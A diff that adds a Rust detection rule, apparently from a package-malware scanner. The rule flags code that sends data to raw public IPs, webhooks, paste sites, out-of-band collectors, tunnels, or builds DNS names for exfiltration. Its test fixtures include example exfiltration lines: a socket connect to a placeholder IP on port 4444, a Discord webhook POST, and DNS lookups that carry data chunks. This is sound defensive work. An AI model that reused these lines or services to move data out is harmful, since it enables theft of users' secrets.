@@ -1,0 +1,140 @@
+//! Rule `suspicious-endpoint`.
+
+use crate::model::Severity;
+use crate::package::Package;
+use crate::rules::{Emitter, code_files, find_text, is_doc_path};
+
+crate::declare_rule! {
+    /// Code that addresses places stolen data goes: a raw public IP address as a URL or socket
+    /// target, request collectors (webhook.site-style, out-of-band testing domains), Discord
+    /// webhooks, Telegram bot API, paste sites and file drops, calendar/paste dead drops,
+    /// tunnelling domains, and DNS lookups of names built at run time (DNS exfiltration).
+    /// Hosts are judged by their kind, never by a list of known-bad names.
+    id: "suspicious-endpoint",
+    category: Network,
+    severity: High,
+    capability: Some(crate::model::Capability::Network),
+    title: "talks to a raw IP, collector, webhook, paste site or tunnel",
+    incident: "typosquats posting to Discord/Telegram webhooks; BeaverTail C2 on raw IPs; dependency-confusion DNS exfiltration",
+    case_file: "index.js",
+    flag: ["fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST' })",
+           "const u = 'http://' + '203.0.113.9' + ':1224/uploads'",
+           "const s = new net.Socket(); s.connect(4444, '198.51.100.7')",
+           "https.get('https://pastebin.com/raw/abcd')",
+           "const dns = require('dns'); dns.lookup(`${chunk}.${i}.oast-cb.example.net`, () => {})", "const dns = require('dns'); dns.lookup(hex + '.collect.example.org', cb)"],
+    pass: ["fetch('https://api.example.com/v2/items')", "const local = 'http://127.0.0.1:8080'",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nconnect to http://203.0.113.10:8080",
+           "const v = '1.2.3.4' // version-ish string not used as an address", "const dns = require('dns'); dns.lookup(host, cb)"],
+}
+
+fn public_ipv4(s: &str) -> bool {
+    let parts: Vec<u32> = s.split('.').filter_map(|p| p.parse().ok()).collect();
+    if parts.len() != 4 || parts.iter().any(|p| *p > 255) {
+        return false;
+    }
+    let private = matches!(parts[0], 0 | 10 | 127 | 224..=255)
+        || (parts[0] == 169 && parts[1] == 254)
+        || (parts[0] == 172 && (16..32).contains(&parts[1]))
+        || (parts[0] == 192 && parts[1] == 168)
+        || (parts[0] == 100 && (64..128).contains(&parts[1]));
+    !private
+}
+
+fn check(pkg: &Package, out: &mut Emitter) {
+    let ip_url =
+        crate::regex!(r"(?i)\b(?:https?|wss?|tcp|ftp)://(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?");
+    let collectors = crate::regex!(
+        r"(?i)(discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|webhook\.site|requestbin|pipedream\.net|hookbin|requestcatcher|beeceptor|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|oastify\.com|burpcollaborator|canarytokens|dnslog\.cn|ceye\.io|pastebin\.com/raw|paste\.ee/r|hastebin|ghostbin|rentry\.co|transfer\.sh|file\.io|0x0\.st|temp\.sh|anonfiles|gofile\.io|calendar\.app\.google)"
+    );
+    let tunnels = crate::regex!(
+        r"(?i)\b[\w-]+\.(ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|serveo\.net|loca\.lt|localtunnel\.me|pagekite\.me|localhost\.run)\b"
+    );
+    for f in code_files(pkg) {
+        if is_doc_path(&f.path) {
+            continue;
+        }
+        if let Some((off, m)) = find_text(f, collectors).into_iter().next() {
+            out.hit(
+                pkg,
+                f,
+                off,
+                format!("addresses a collector, webhook or paste service ({m})"),
+            );
+            continue;
+        }
+        let ip = find_text(f, ip_url).into_iter().find(|(_, m)| {
+            let host = m
+                .split("://")
+                .nth(1)
+                .unwrap_or("")
+                .split(':')
+                .next()
+                .unwrap_or("");
+            public_ipv4(host)
+        });
+        let ip = ip.or_else(|| {
+            let js = f.js.as_ref()?;
+            js.calls.iter().find_map(|c| {
+                let sock = matches!(
+                    c.path.as_str(),
+                    "net.Socket.connect" | "net.connect" | "net.createConnection" | "tls.connect"
+                ) || c.path.ends_with(".connect");
+                let target = c
+                    .args
+                    .iter()
+                    .filter_map(|a| a.lit.as_deref())
+                    .chain(
+                        c.opts
+                            .iter()
+                            .filter(|(k, _)| k == "host")
+                            .map(|(_, v)| v.as_str()),
+                    )
+                    .find(|s| public_ipv4(s));
+                (sock || super::is_net_call(&c.path))
+                    .then_some(())
+                    .and(target)
+                    .map(|t| (c.off, t.to_string()))
+            })
+        });
+        if let Some((off, m)) = ip {
+            out.hit(pkg, f, off, format!("addresses a raw IP address ({m})"));
+            continue;
+        }
+        if let Some((off, m)) = find_text(f, tunnels).into_iter().next() {
+            out.hit_sev(
+                Severity::Medium,
+                pkg,
+                f,
+                off,
+                format!("addresses a tunnelling service ({m})"),
+            );
+            continue;
+        }
+        if let Some(js) = &f.js
+            && let Some(c) = js.calls.iter().find(|c| {
+                matches!(
+                    c.path.as_str(),
+                    "dns.lookup"
+                        | "dns.resolve"
+                        | "dns.resolve4"
+                        | "dns.resolveTxt"
+                        | "dns.promises.lookup"
+                        | "dns.promises.resolve"
+                        | "dns/promises.lookup"
+                        | "dns/promises.resolve"
+                ) && c.arg_lit(0).is_none()
+                    && c.args
+                        .first()
+                        .and_then(|a| a.tail.as_deref())
+                        .is_some_and(|t| t.starts_with('.') && t.len() > 4 && t[1..].contains('.'))
+            })
+        {
+            out.hit(
+                pkg,
+                f,
+                c.off,
+                "resolves DNS names that carry data under a fixed domain (DNS exfiltration)",
+            );
+        }
+    }
+}
